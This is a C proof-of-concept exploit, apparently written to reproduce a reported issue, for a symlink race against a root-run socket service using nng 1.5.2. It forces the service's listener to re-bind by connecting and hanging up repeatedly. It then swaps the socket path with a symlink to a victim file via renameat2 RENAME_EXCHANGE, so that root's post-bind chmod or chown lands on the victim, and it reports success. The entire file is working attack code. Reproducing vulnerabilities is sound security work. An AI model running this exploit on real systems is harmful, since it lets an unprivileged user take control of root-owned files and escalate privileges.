/* attack_sock_swap: issue #19, attack 1, as the owner would run it.
 *
 *   attack_sock_swap SOCKET VICTIM SECONDS
 *
 * Run as the owner against root's netsvc socket. Over and over: connect to
 * SOCKET and hang up at once, which makes nng 1.5.2's listener stop taking
 * connections until netsvc's listener guard closes it and binds SOCKET
 * again. The moment the old socket goes, swap SOCKET with a symlink to
 * VICTIM in a tight loop (renameat2 RENAME_EXCHANGE, which also keeps the
 * new socket under another name, so it can be put back and the attack tried
 * again): whatever root does to SOCKET by path right after bind (chmod,
 * chown) then lands on VICTIM about half of the time.
 *
 * Prints one line and exits 0 when VICTIM's owner, group or mode changed
 * ("victim changed"), 1 when the time ran out with VICTIM as it was, 2 on a
 * usage error. It also says how many times it saw the listener re-bound and
 * whether it could write SOCKET's directory at all. */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static bool changed(const char *victim, const struct stat *was)
{
        struct stat st;
        if (stat(victim, &st) < 0)
                return true;
        return st.st_uid != was->st_uid || st.st_gid != was->st_gid || st.st_mode != was->st_mode;
}

/* Connects and hangs up before the SP handshake; 0 or -errno. */
static int hang_up(const char *sock)
{
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (fd < 0)
                return -errno;
        struct sockaddr_un a = {.sun_family = AF_UNIX};
        snprintf(a.sun_path, sizeof(a.sun_path), "%s", sock);
        int r = connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0 ? -errno : 0;
        close(fd);
        return r;
}

int main(int argc, char **argv)
{
        if (argc != 4) {
                fprintf(stderr, "usage: %s SOCKET VICTIM SECONDS\n", argv[0]);
                return 2;
        }
        const char *sock = argv[1], *victim = argv[2];
        double until = now() + atof(argv[3]);
        struct stat was;
        if (stat(victim, &was) < 0) {
                perror(victim);
                return 2;
        }
        char dir[PATH_MAX], bait[PATH_MAX + 16];
        snprintf(dir, sizeof(dir), "%s", sock);
        char *slash = strrchr(dir, '/');
        if (!slash)
                return 2;
        *slash = '\0';
        snprintf(bait, sizeof(bait), "%s/.bait", dir);
        unlink(bait);
        bool can_write = symlink(victim, bait) == 0;
        int bind_seen = 0, connect_errno = 0, swaps = 0;

        while (now() < until) {
                if (changed(victim, &was))
                        break;
                struct stat st;
                ino_t old = lstat(sock, &st) == 0 ? st.st_ino : 0;
                for (int i = 0; i < 10; i++) {
                        int r = hang_up(sock);
                        if (r < 0)
                                connect_errno = -r;
                }
                /* The guard notices within a tick, probes for up to ~3 s,
                 * then closes the listener (removing SOCKET) and binds it
                 * anew. Wait for the old socket to go. */
                double stop = now() + 6;
                bool gone = false;
                while (!gone && now() < stop && now() < until)
                        gone = lstat(sock, &st) < 0 || st.st_ino != old;
                if (!gone)
                        continue;
                bind_seen++;
                if (!can_write)
                        continue;
                /* Toggle SOCKET and the bait until the new socket has been
                 * bound, chmod'ed and chown'ed (well under 50 ms). */
                double toggle_until = now() + 0.05;
                while (now() < toggle_until)
                        if (renameat2(AT_FDCWD, bait, AT_FDCWD, sock, RENAME_EXCHANGE) == 0)
                                swaps++;
                /* Leave the socket in place for the next round. */
                if (lstat(sock, &st) == 0 && S_ISLNK(st.st_mode))
                        renameat2(AT_FDCWD, bait, AT_FDCWD, sock, RENAME_EXCHANGE);
                usleep(200 * 1000);
        }
        unlink(bait);
        bool hit = changed(victim, &was);
        printf("%s: listener re-bound %d times, %d swaps, %s%s%s\n",
               hit ? "victim changed" : "victim unchanged", bind_seen, swaps,
               can_write ? "socket directory writable" : "socket directory not writable",
               connect_errno ? ", connect: " : "", connect_errno ? strerror(connect_errno) : "");
        return hit ? 0 : 1;
}
